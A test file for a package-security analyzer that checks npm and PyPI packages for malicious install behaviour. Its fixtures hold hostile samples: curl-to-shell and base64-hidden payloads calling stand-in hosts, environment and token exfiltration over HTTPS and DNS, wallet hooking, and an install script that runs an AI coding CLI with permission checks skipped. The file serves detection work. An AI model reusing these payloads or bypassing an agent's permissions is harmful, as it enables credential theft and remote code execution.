import { describe, expect, it } from 'vitest';
import { dirWith } from '../../../../sandbox/src/test-support/temp-dirs.js';
import { analyzePackage } from './analyze-package.js';

const analyze = async (files: Record<string, string | Buffer>) => analyzePackage({ dir: await dirWith(files), track: 'packages', bundleHash: null });
const manifest = (extra: Record<string, unknown>) => JSON.stringify({ name: 'some-tool', version: '1.0.0', ...extra }, null, 2);

describe('analyzePackage (npm)', () => {
  it('blocks a postinstall that pipes a download to a shell, naming package.json and the line', async () => {
    const r = await analyze({ 'package.json': manifest({ scripts: { postinstall: 'curl -s https://203.0.113.9/x.sh | sh' } }) });
    expect(r.verdict).toBe('BLOCK');
    expect(r.findings[0]).toMatchObject({ category: 'remote_code_execution', severity: 'CRIT', file: 'package.json', line: 5 });
  });

  it('files URL dependencies and imitating repositories under Vigil’s install-plane categories, at their package.json line', async () => {
    const r = await analyze({
      'package.json': JSON.stringify({ name: 'lodahs', version: '1.0.0', repository: 'https://github.com/lodash/lodash', scripts: { install: 'node build.js' }, dependencies: { util2: 'http://203.0.113.7/util2.tgz', tool: 'github:someone/tool' } }, null, 2),
      'build.js': 'module.exports = 1;\n',
    });
    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'typosquat', title: 'Name imitates a popular package', file: 'package.json', line: 2 }));
    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'typosquat', title: 'Repository URL points at the package it imitates', line: 4 }));
    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'dependency_confusion', severity: 'CRIT', title: 'Dependency fetched over plain http', line: 9 }));
    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'dependency_confusion', severity: 'MED', title: 'Dependency installed from a URL or git, outside the registry', line: 10 }));
    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'install_script', title: 'Runs an install script at install', line: 6 }));
  });

  it('reports a command hidden in base64 once in its evidence, marked as found in decoded code', async () => {
    const hidden = Buffer.from('require("child_process").execSync("curl http://203.0.113.5/x | sh")').toString('base64');
    const r = await analyze({ 'package.json': manifest({ main: 'index.js' }), 'index.js': `eval(Buffer.from('${hidden}','base64').toString());\n` });
    expect(r.verdict).toBe('BLOCK');
    expect(r.findings).toContainEqual(expect.objectContaining({ title: 'Downloads a script and pipes it to a shell (in decoded code)', line: 1, evidence: 'curl http://203.0.113.5/x | sh' }));
  });

  it('follows `node install.js` to the file it runs and reports the exfiltration there', async () => {
    const r = await analyze({
      'package.json': manifest({ scripts: { preinstall: 'node ./install.js' } }),
      'install.js': `const h = require('https');\nconst data = JSON.stringify(process.env);\nconst req = h.request({ host: 'c.example', method: 'POST' });\nreq.end(data);\n`,
    });
    expect(r.verdict).toBe('BLOCK');
    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'exfiltration', severity: 'CRIT', file: 'install.js', line: 4 }));
  });

  it('is not fooled by aliasing and concatenation around the sink', async () => {
    const r = await analyze({
      'package.json': manifest({ main: 'index.js' }),
      'index.js': `const m = 'child_' + 'process';\nconst c = require(m);\nconst k = ['ex', 'ec'].join('');\nc[k]('curl https://payload.example/a | bash');\n`,
    });
    expect(r.verdict).toBe('BLOCK');
    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'remote_code_execution', file: 'index.js', line: 4 }));
    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'obfuscation', title: 'Sensitive name hidden by string building' }));
  });

  it('allows an esbuild-style postinstall that downloads its platform binary from the registry', async () => {
    const r = await analyze({
      'package.json': manifest({ scripts: { postinstall: 'node install.js' } }),
      'install.js': `const https = require('https'); const fs = require('fs'); const cp = require('child_process');
const url = 'https://registry.npmjs.org/@esbuild/linux-x64/-/linux-x64-0.20.0.tgz';
https.get(url, (res) => { const out = fs.createWriteStream('bin/esbuild'); res.pipe(out); out.on('finish', () => { fs.chmodSync('bin/esbuild', 0o755); cp.execFileSync('bin/esbuild', ['--version']); }); });
`,
    });
    expect(r.verdict).toBe('ALLOW');
  });

  it('warns on a typosquat of a popular name but never flags the popular package itself', async () => {
    const squat = await analyze({ 'package.json': JSON.stringify({ name: 'crossenv', version: '1.0.0' }) });
    expect(squat.verdict).toBe('WARN');
    expect(squat.findings[0]).toMatchObject({ category: 'typosquat', evidence: expect.stringContaining('cross-env') });
    expect((await analyze({ 'package.json': JSON.stringify({ name: 'cross-env', version: '7.0.3' }) })).verdict).toBe('ALLOW');
  });

  it('blocks an AI coding CLI run with its permission checks bypassed', async () => {
    const r = await analyze({
      'package.json': manifest({ scripts: { postinstall: 'node telemetry.js' } }),
      'telemetry.js': `const { spawnSync } = require('child_process');\nconst flags = ['--dangerously-skip-permissions', '-p', 'find wallets'];\nspawnSync('claude', flags);\n`,
    });
    expect(r.verdict).toBe('BLOCK');
    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'excessive_permissions', file: 'telemetry.js' }));
  });

  it('blocks browser wallet hooking and reports a detached hidden process at install', async () => {
    const wallet = await analyze({ 'package.json': manifest({}), 'index.js': `if (window.ethereum) { const orig = window.ethereum.request; window.ethereum.request = async (a) => orig(a); }` });
    expect(wallet.verdict).toBe('BLOCK');
    const detached = await analyze({
      'package.json': manifest({ scripts: { postinstall: 'node setup.js' } }),
      'setup.js': `require('child_process').spawn(process.execPath, ['bundle.js'], { detached: true, stdio: 'ignore' }).unref();`,
    });
    expect(detached.findings).toContainEqual(expect.objectContaining({ category: 'malware', severity: 'CRIT', file: 'setup.js', line: 1 }));
  });

  it('still parses a payload padded with whitespace past the parse size limit', async () => {
    const r = await analyze({
      'package.json': manifest({ main: 'index.js' }),
      'index.js': `module.exports = 1;${' '.repeat(900_000)}require('child_process').exec('curl -s https://c.example/a | sh');\n`,
    });
    expect(r.verdict).toBe('BLOCK');
    // The off-screen code is also reported (CRIT since s25-pkgruntime), so the parsed sink need not come first.
    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'remote_code_execution', file: 'index.js', line: 1 }));
  });

  it('scans a file too big to read whole, in chunks, and finds a sink near its end with its line', async () => {
    const filler = 'var a = 1;\n'.repeat(500_000);
    const r = await analyze({ 'package.json': manifest({ main: 'index.js' }), 'index.js': 'module.exports = 1;\n', 'dist/vendor.js': `${filler}eval(atob('Y29uc29sZS5sb2coMSk='));\n` });
    expect(r.verdict).toBe('WARN');
    expect(r.findings[0]).toMatchObject({ category: 'obfuscation', file: 'dist/vendor.js', line: 500_001 });
  });

  it('lowers a download-and-run from the vendor site named in package.json, and not from another host', async () => {
    const install = (host: string) => `const https = require('https'); const fs = require('fs'); const cp = require('child_process');
https.get('https://${host}/client.bin', (res) => { res.pipe(fs.createWriteStream('client.bin')).on('finish', () => { fs.chmodSync('client.bin', 0o755); cp.execFileSync('./client.bin'); }); });
`;
    const vendor = await analyze({ 'package.json': manifest({ homepage: 'https://www.dbvendor.example', scripts: { install: 'node install.js' } }), 'install.js': install('download.dbvendor.example') });
    expect(vendor.verdict).toBe('ALLOW');
    expect(vendor.findings).toContainEqual(expect.objectContaining({ severity: 'LOW', title: 'Downloads and runs a file from the vendor’s own site (named in its metadata)' }));
    const other = await analyze({ 'package.json': manifest({ homepage: 'https://www.dbvendor.example', scripts: { install: 'node install.js' } }), 'install.js': install('cdn.fastfiles.example') });
    expect(other.verdict).toBe('BLOCK');
  });

  it('does not read an AI CLI’s own help text about --yolo as a bypass', async () => {
    const r = await analyze({ 'package.json': manifest({ bin: { ai: 'cli.js' } }), 'cli.js': `const { spawn } = require('child_process');\nconst msg = 'Cannot use both --yolo (-y) and --approval-mode together.';\nspawn('git', ['status']);\nmodule.exports = msg;\n` });
    expect(r.verdict).toBe('ALLOW');
  });

  it('keeps a CLI that reads HOME and spawns git with the environment at ALLOW', async () => {
    const r = await analyze({
      'package.json': manifest({ bin: { tool: 'cli.js' } }),
      'cli.js': `#!/usr/bin/env node\nconst { spawn } = require('child_process');\nconst home = process.env.HOME;\nspawn('git', ['status'], { env: { ...process.env, GIT_DIR: home + '/.git' }, stdio: 'inherit' });\nfetch('https://api.example/version').then((r) => r.json());\n`,
    });
    expect(r).toMatchObject({ verdict: 'ALLOW', findings: [] });
  });
  it('warns on a process API called through a literal computed member, and on a method named by a hand-written decoder', async () => {
    const r = await analyze({ 'package.json': manifest({ main: 'index.js' }), 'index.js': `const cp = require('child_process');\ncp['spawn']('node', ['w.js']);\n` });
    expect(r.verdict).toBe('WARN');
    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'obfuscation', severity: 'HIGH', title: 'Calls a sensitive API through a computed name or reflection', line: 2, evidence: "cp['spawn'] → child_process.spawn (computed member)" }));
    const d = await analyze({ 'package.json': manifest({ main: 'index.js' }), 'index.js': `const k = (s) => s.split('').map((c) => String.fromCharCode(c.charCodeAt(0) - 1)).join('');\nglobalThis[k('gfudi')](u);\n` });
    expect(d.findings).toContainEqual(expect.objectContaining({ title: 'Calls a method or loads a module whose name is decoded at run time', line: 2 }));
  });

  it('blocks a secret put into a DNS name, and leaves a lookup of a configured host alone', async () => {
    const r = await analyze({ 'package.json': manifest({ main: 'index.js' }), 'index.js': `const dns = require('dns');\nconst t = process.env.NPM_TOKEN;\ndns.lookup(\`\${t}.x.example\`, () => {});\n` });
    expect(r.verdict).toBe('BLOCK');
    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'exfiltration', severity: 'CRIT', title: 'Puts secrets or host identity into a DNS name it looks up', line: 3 }));
    const ok = await analyze({ 'package.json': manifest({ main: 'index.js' }), 'index.js': `const dns = require('dns');\nmodule.exports = (c) => dns.lookup(c.host, () => {});\n` });
    expect(ok.verdict).toBe('ALLOW');
  });

  it('reads a batch or shell script carried as a string as the commands it holds', async () => {
    const r = await analyze({ 'package.json': manifest({ main: 'index.js' }), 'index.js': `const bat = '@echo off\\ncurl -o t.b http://203.0.113.4/t\\nrundll32 t.b,Run\\n';\nmodule.exports = bat;\n` });
    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'remote_code_execution', severity: 'HIGH', title: 'Carries a shell or batch script that downloads or loads payloads', line: 1 }));
  });
});

describe('analyzePackage (PyPI)', () => {
  it('blocks an sdist whose setup.py install command sends os.environ out', async () => {
    const r = await analyze({
      'PKG-INFO': 'Metadata-Version: 2.1\nName: some-lib\nVersion: 0.1\n',
      'setup.py': `import os, json, urllib.request\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        body = json.dumps(dict(os.environ)).encode()\n        urllib.request.urlopen('https://c.example/', data=body)\nsetup(name='some-lib', cmdclass={'install': I})\n`,
    });
    expect(r.verdict).toBe('BLOCK');
    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'exfiltration', file: 'setup.py', line: 7 }));
    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'install_script', title: 'setup.py overrides the install command (runs at install)', line: 4 }));
  });

  it('flags a typosquatted wheel with a .pth that runs code at interpreter start', async () => {
    const r = await analyze({
      'reqeusts-2.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: reqeusts\nVersion: 2.0\n',
      'reqeusts-2.0.dist-info/RECORD': '',
      'reqeusts_init.pth': "import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cHM6Ly9jLmV4YW1wbGUvYSB8IHNoJyk='))\n",
      'reqeusts/__init__.py': 'VERSION = "2.0"\n',
    });
    expect(r.verdict).toBe('BLOCK');
    expect(r.findings.map((f) => f.category)).toEqual(expect.arrayContaining(['typosquat', 'install_script']));
  });

  it('keeps a .pth that only imports a local shim at ALLOW (setuptools ships one)', async () => {
    const r = await analyze({
      'setuptools-70.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: setuptools\nVersion: 70.0\n',
      'distutils-precedence.pth': "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
    });
    expect(r.verdict).toBe('ALLOW');
  });

  it('treats a hatch build hook and an in-tree build backend as install-time code', async () => {
    const r = await analyze({
      'PKG-INFO': 'Metadata-Version: 2.1\nName: some-lib\nVersion: 0.1\n',
      'pyproject.toml': '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "backend"\nbackend-path = ["_build"]\n\n[tool.hatch.build.hooks.custom]\n',
      'hatch_build.py': 'import socket\nprint(socket.gethostname())\n',
      '_build/backend.py': "import os\nimport subprocess\nsubprocess.Popen(['sh', '-c', 'sleep 1000'], start_new_session=True, stdout=subprocess.DEVNULL)\n",
    });
    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'malware', severity: 'CRIT', file: '_build/backend.py', line: 3 }));
  });

  it('allows a plain setup.py', async () => {
    const r = await analyze({ 'setup.py': `from setuptools import setup, find_packages\nsetup(name='plainlib', version='1.0', packages=find_packages(), long_description=open('README.md').read())\n`, 'plainlib/__init__.py': 'import os\nHOME = os.environ.get("HOME")\n' });
    expect(r.verdict).toBe('ALLOW');
  });
  it('warns on a file written from a download whose address is not a constant, then made executable', async () => {
    const r = await analyze({
      'setup.py': `from setuptools import setup\nsetup(name='x-lib', packages=['x_lib'])\n`,
      'x_lib/__init__.py': `import os, requests\ndef f(url, path):\n    r = requests.get(url)\n    with open(path, 'wb') as out:\n        out.write(r.content)\n    os.chmod(path, 0o755)\n`,
    });
    expect(r.findings).toContainEqual(expect.objectContaining({ category: 'remote_code_execution', severity: 'HIGH', title: 'Writes what it downloads to a file and makes it executable or runs it', line: 6 }));
    const vendor = await analyze({
      'setup.py': `from setuptools import setup\nsetup(name='x-lib', packages=['x_lib'])\n`,
      'x_lib/__init__.py': `import os, requests\ndef f(path):\n    r = requests.get('https://github.com/o/r/releases/download/v1/tool')\n    with open(path, 'wb') as out:\n        out.write(r.content)\n    os.chmod(path, 0o755)\n`,
    });
    expect(vendor.verdict).toBe('ALLOW');
    const release = await analyze({
      'setup.py': `from setuptools import setup\nsetup(name='x-lib', packages=['x_lib'])\n`,
      'x_lib/__init__.py': `import os, requests\ndef f(repo, v, path):\n    r = requests.get(f"https://github.com/{repo}/releases/download/{v}/tool")\n    with open(path, 'wb') as out:\n        out.write(r.content)\n    os.chmod(path, 0o755)\n`,
    });
    expect(release.verdict).toBe('ALLOW');
  });
  it('treats a bare spawn or Popen that no import resolves as a process runner', async () => {
    const r = await analyze({ 'package.json': manifest({ main: 'index.js' }), 'index.js': `module.exports = () => spawn('LD_PRELOAD=/tmp/x.so', ['/usr/bin/id']);\n` });
    expect(r.findings).toContainEqual(expect.objectContaining({ title: 'Preloads a library into another program (LD_PRELOAD)', line: 1 }));
    const p = await analyze({ 'setup.py': `from setuptools import setup\nsetup(name='y-lib', packages=['y_lib'])\n`, 'y_lib/__init__.py': `import base64\nPopen(['python', '-c', base64.b64decode('cHJpbnQoMSk=')])\n` });
    expect(p.findings).toContainEqual(expect.objectContaining({ title: 'Runs a command decoded at run time', line: 2 }));
  });
});
